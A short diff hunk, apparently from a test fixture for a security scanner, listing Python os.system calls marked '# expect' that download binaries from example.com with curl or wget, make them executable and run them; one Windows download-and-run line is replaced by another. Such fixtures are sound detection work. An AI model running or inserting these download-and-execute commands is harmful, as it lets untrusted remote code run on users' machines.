@@ -10,4 +10,4 @@ os.system("curl -o data.bin https://example.com/data.bin")  # expect
 os.system("wget https://example.com/tool.elf")
 os.system("chmod +x tool.elf")
 os.system("./tool.elf &")  # expect
-os.system("cd C:/ && curl -s https://example.com/x.exe -o x.exe && x.exe")  # expect
+os.system("curl --output tool.exe https://example.com/tool.exe & tool.exe")  # expect
